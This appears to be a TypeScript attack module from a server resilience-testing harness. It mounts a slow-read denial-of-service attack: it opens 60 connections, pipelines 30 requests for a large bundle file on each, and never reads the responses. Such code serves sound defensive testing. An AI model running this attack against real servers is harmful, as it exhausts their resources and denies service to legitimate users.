import { type Attack, keepOpen } from '../harness/attack.ts';

const DOWNLOAD = 'GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nhost: localhost\r\n\r\n';

/** Requests files on many connections, stays below the limit of pipelined requests, and reads nothing. */
const attack: Attack = (target, signal) =>
  keepOpen(target, signal, 60, (socket) => {
    socket.pause();
    socket.write(DOWNLOAD.repeat(30));
  });
export default attack;
